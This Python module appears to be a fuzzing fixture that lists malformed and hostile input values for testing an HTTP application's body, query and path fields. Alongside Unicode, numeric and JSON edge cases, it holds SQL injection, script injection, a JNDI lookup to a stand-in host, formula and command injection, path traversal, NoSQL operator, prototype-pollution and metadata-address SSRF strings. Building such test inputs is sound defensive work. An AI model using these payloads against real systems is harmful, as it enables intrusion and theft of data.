"""What nobody means well by: values for any field, as they stand in a body, in a query and in a path."""

from __future__ import annotations

import json
from collections.abc import Mapping
from urllib.parse import quote, quote_from_bytes

from adapters.http.server.http_server import HEADER_BYTES_LIMIT

NEARLY_A_BODY = 60_000
"""Characters of one byte that nearly fill a body."""
NEARLY_A_HEAD = HEADER_BYTES_LIMIT - 2048
"""Bytes that an address may have beside the headers. With more, the server answers before the application is asked."""
_MANY = NEARLY_A_BODY // 4

# What a text may be, by what is wrong with it.
TEXTS: Mapping[str, str] = {
    "empty": "",
    "blank": " ",
    "a letter": "a",
    "no-break spaces": "\u00a0\u3000",
    "NUL": "a\x00b",
    "half a pair": "\ud800",
    "a pair the wrong way round": "\udc00\ud800",
    "escapes of a terminal": "\x1b[31m\x9b2J",
    "line ends": "a\r\nBcc: eve@example.com\r\n\r\nb",
    "Unicode's line ends": "a\u2028b\u2029c\x85d",
    "other direction": "\u202egnp.exe\u202c",
    "isolated direction": "a\u2066b\u2069\u200f",
    "zero width": "zero\u200bwid\u200dth\ufeff",
    "nothing to see": "\u200b\u2060\u3164\u115f",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "not a character": "\uffff\U0010ffff\ufdd0",
    "private": "\ue000\U000f0000",
    "marks upon marks": "a" + "\u0301\u0316" * 50,
    "longer when folded": "\u0130\ufb03\ufdfa\u1e9e",
    "digits of Arabic": "\u0661\u0662",
    "digits of full width": "\uff11\uff12",
    "digits raised": "1\u00b2",
    "half": "\u00bd",
    "hexadecimal": "0x10",
    "underscored": "1_000",
    "exponent": "1e400",
    "exponent without end": "1e" + "9" * 1000,
    "no number": "NaN",
    "infinite": "-Infinity",
    "a signal": "sNaN",
    "below zero": "-1",
    "below zero and none": "-0.0",
    "plus": "+1",
    "least of all": "0." + "0" * 40 + "1",
    "19 digits": "9" * 19,
    "last of 64 bits": "9223372036854775807",
    "beyond 64 bits": "18446744073709551616",
    "true": "true",
    "null": "null",
    "first day": "0001-01-01",
    "last day": "9999-12-31",
    "no day": "2026-02-30",
    "before the first moment": "0001-01-01T00:00:00+23:59",
    "after the last moment": "9999-12-31T23:59:59-23:59",
    "leap second": "2016-12-31T23:59:60Z",
    "no zone": "2026-03-02T12:00:00",
    "week": "2026-W10-1T00Z",
    "nobody": "00000000-0000-0000-0000-000000000000",
    "a UUID with braces": "{3f2c9a10-7c1b-4a8e-8b57-5f1f6f0d2c44}",
    "SQL": "'; DROP TABLE traders; --",
    "pattern": "%_\\%",
    "markup": "<script>alert(1)</script>&amp;\"'",
    "template": "{0.__class__} %(x)s %s ${jndi:ldap://eve.example} {{7*7}}",
    "formula": "=cmd|'/c calc'!A1",
    "path": "../../../../etc/passwd",
    "an address of two": "a@example.com, b@example.com",
    "an address that is a command": "\"$(id)\"@example.com",
    "an address of another script": "\u0430@\u0435xample.com",
    "an address of nowhere": "a@" + "b." * 120 + "c",
    "a file": "file:///etc/passwd",
    "this machine": "https://[::ffff:127.0.0.1]:443/",
    "the machine's keeper": "https://2852039166/latest/meta-data",
    "a port beyond": "https://hooks.example:99999/",
}  # fmt: skip
# The same, nearly as long as a body may be: nothing that is looked for in them may take the square of their length.
LONG_TEXTS: Mapping[str, str] = {
    "very many letters": "a" * NEARLY_A_BODY,
    "very many digits": "1" * NEARLY_A_BODY,
    "very many digits, and a letter": "1" * (NEARLY_A_BODY - 1) + "a",
    "very many digits behind a point": "1." + "0" * (NEARLY_A_BODY - 3) + "1",
    "very many blanks": " " * NEARLY_A_BODY,
    "very many blanks around": " " * (NEARLY_A_BODY // 2) + "a" + " " * (NEARLY_A_BODY // 2 - 1),
    "very many lines": "\n" * NEARLY_A_BODY,
    "very many marks": "a" + "\u0301\u0316" * (_MANY - 1),
    "very many that are not seen": "\u200b" * _MANY,
    "very many that grow": "\ufdfa" * _MANY,
    "very many faces": "\U0001f600" * _MANY,
    "very many words": "a " * (NEARLY_A_BODY // 2),
    "very many dots": "a." * (NEARLY_A_BODY // 2),
    "very many labels": "a@" + "a-" * (NEARLY_A_BODY // 2 - 1),
    "very many escapes": "\\\"" * (NEARLY_A_BODY // 4),
    "very many turns": "ab" * (NEARLY_A_BODY // 2 - 1) + "c",
}  # fmt: skip


def _deep(levels: int) -> str:
    return "[" * levels + "]" * levels


# What stands behind the name of a field, byte for byte, as no encoder would write it. A field is on the first level.
_OTHERS: Mapping[str, str] = {
    "null itself": "null",
    "true itself": "true",
    "false itself": "false",
    "zero": "0",
    "one": "1",
    "none below zero": "-0",
    "minus one": "-1",
    "one and a half": "1.5",
    "a tenth of a tenth": "0.1e-1",
    "great": "1e400",
    "greater than can be made": "1e1000000",
    "small": "-1e-400",
    "an exponent without end": "1e" + "9" * 50_000,
    "the last of 31 bits and one": "2147483648",
    "the last of 63 bits": "9223372036854775807",
    "the last of 63 bits and one": "9223372036854775808",
    "50 digits": "1" + "0" * 50,
    "very many digits of a number": "1" * NEARLY_A_BODY,
    "very many digits behind the point of a number": "1." + "0" * NEARLY_A_BODY,
    "NaN itself": "NaN",
    "Infinity itself": "-Infinity",
    "nothing": "",
    "an unknown word": "undefined",
    "an empty list": "[]",
    "a list in a list": "[[]]",
    "a list of one": '["a"]',
    "a list of many kinds": '[null, true, 1, "a", [], {}]',
    "a list of very many": "[" + "1," * (NEARLY_A_BODY // 2 - 2) + "1]",
    "a list of very many texts": "[" + '"a",' * (NEARLY_A_BODY // 4 - 2) + '"a"]',
    "an empty object": "{}",
    "an operator": '{"$ne": null}',
    "another's own": '{"__proto__": {"is_staff": true}, "__class__": "x"}',
    "a name twice inside": '{"a": 1, "a": 2}',
    "an object of very many": "{" + ",".join(f'"{number}":1' for number in range(6000)) + "}",
    "31 levels more": _deep(31),
    "32 levels more": _deep(32),
    "very many levels": "[" * NEARLY_A_BODY,
    "very many levels that end": _deep(NEARLY_A_BODY // 2),
    "more than a body": '"' + "a" * 100_000 + '"',
    "a name again": '1, "FIELD": 2',
    "a name again, spelled otherwise": '"a", "ESCAPED": "b"',
    "half a text": '"a',
    "a control character itself": '"a\x01"',
    "an escape that is none": '"\\x41"',
}  # fmt: skip
LITERALS: Mapping[str, bytes] = (
    {kind: json.dumps(text).encode() for kind, text in TEXTS.items()}
    # As many characters as there are bytes for are not escaped.
    | {kind: json.dumps(text, ensure_ascii=False).encode() for kind, text in LONG_TEXTS.items()}
    | {kind: text.encode() for kind, text in _OTHERS.items()}
    | {"no UTF-8": b'"\xff\xfe"', "overlong": b'"\xc0\xaf"', "half a pair in UTF-8": b'"\xed\xa0\x80"'}
)


def _fitting(text: str) -> str:
    """As much of a long text as can come in an address, escaped."""
    longest = max(len(quote(letter, safe="")) for letter in set(text))
    return quote(text[: NEARLY_A_HEAD // longest], safe="")


# How they are spelled in an address.
_SPELLED = {kind: quote_from_bytes(text.encode("utf-8", "surrogatepass"), safe="") for kind, text in TEXTS.items()}
QUERIES: Mapping[str, str] = (
    {kind: spelled or "%20" for kind, spelled in _SPELLED.items()}
    | {kind: _fitting(text) for kind, text in LONG_TEXTS.items()}
    | {"no UTF-8": "%ff%fe", "overlong": "%c0%af", "not escaped": "%", "half escaped": "%4", "twice": "1&FIELD=2"}
    | {"a list": "1&FIELD[]=2", "an object": "1&FIELD[$ne]=1"}
)
PATHS: Mapping[str, str] = (
    {kind: spelled for kind, spelled in _SPELLED.items() if spelled}
    | {"no UTF-8": "%ff%fe", "overlong": "%c0%af", "a slash": "1%2f2", "a path": "..%2f..%2f", "parts": "1;a=b"}
    | {"a blank behind": "1%20", "very many digits": "1" * 8000, "zero": "0"}
)
